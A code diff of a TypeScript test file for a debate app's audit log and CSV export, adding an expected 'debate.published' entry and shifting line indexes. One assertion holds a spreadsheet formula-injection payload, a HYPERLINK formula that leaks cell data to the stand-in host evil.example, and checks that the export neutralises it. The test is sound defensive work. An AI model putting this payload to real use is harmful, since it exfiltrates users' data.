@@ -6,16 +6,8 @@
  * audit log and its CSV export.
  */
 import { describe, expect, it } from "vitest";
-import {
-  type ArgumentDTO,
-  type ArgumentHiddenPayload,
-  type ArgumentRevisionsDTO,
-  type CatchUpPayload,
-  ClientEvent,
-  type DebateChange,
-  type DebateDTO,
-  ServerEvent,
-} from "../../app/shared/contract";
+import { type ArgumentDTO, type ArgumentHiddenPayload, type ArgumentRevisionsDTO, type CatchUpPayload, type DebateChange, type DebateDTO, ServerEvent } from "../../app/shared/contract";
+import { ClientEvent } from "../../app/shared/operations";
 import { plainTextToArgumentBody } from "../../app/shared/lexical";
 import { hiddenThreadIds, isCounted } from "../../app/shared/moderation";
 import { useTestServer } from "../support/test-server";
@@ -297,7 +289,8 @@ describe("audit log", () => {
 
     const log = await api(`${t.base}/audit`, { token: t.host });
     expect(log.status).toBe(200);
-    expect(log.json.total).toBe(6);
+    // The debate was created published: that is the first entry (docs/decisions/0021).
+    expect(log.json.total).toBe(7);
     expect(log.json.entries.map((e: { action: string; actor: { displayName: string } }) => [e.action, e.actor.displayName])).toEqual([
       ["argument.deleted", "Ben"],
       ["argument.unhidden", "Test Facilitator"],
@@ -305,9 +298,10 @@ describe("audit log", () => {
       ["report.dismissed", "Test Facilitator"],
       ["report.filed", "Ada"],
       ["report.filed", "Ben"],
+      ["debate.published", "Test Facilitator"],
     ]);
     const page2 = await api(`${t.base}/audit?page=2&pageSize=4`, { token: t.host });
-    expect(page2.json.entries.map((e: { action: string }) => e.action)).toEqual(["report.filed", "report.filed"]);
+    expect(page2.json.entries.map((e: { action: string }) => e.action)).toEqual(["report.filed", "report.filed", "debate.published"]);
     expect((await api(`${t.base}/audit?pageSize=0`, { token: t.host })).status).toBe(400);
     expect((await api(`${t.base}/audit`, { token: t.ada.token })).status).toBe(403);
     expect((await api(`${t.base}/audit.csv`, { token: t.ben.token })).status).toBe(403);
@@ -319,13 +313,14 @@ describe("audit log", () => {
     const csv = await res.text();
     const lines = csv.trimEnd().split("\r\n");
     expect(lines[0]).toBe("time,actor,actor_id,action,target_type,target_id,reason,details");
-    expect(lines).toHaveLength(7);
-    expect(lines[1]).toContain(",report.filed,argument,");
+    expect(lines).toHaveLength(8);
+    expect(lines[1]).toContain(",debate.published,debate,");
+    expect(lines[2]).toContain(",report.filed,argument,");
     // The formula reason is prefixed with an apostrophe (and quoted, as it holds quotes and commas).
-    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
-    expect(lines[2]).toContain(`"Rude, and ""loud"""`);
+    expect(lines[2]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
+    expect(lines[3]).toContain(`"Rude, and ""loud"""`);
     expect(lines.find((l) => l.includes("argument.hidden"))).toContain(",'-1+2,");
-    expect(lines[6]).toContain(",argument.deleted,argument,");
+    expect(lines[7]).toContain(",argument.deleted,argument,");
     expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
   });
 });
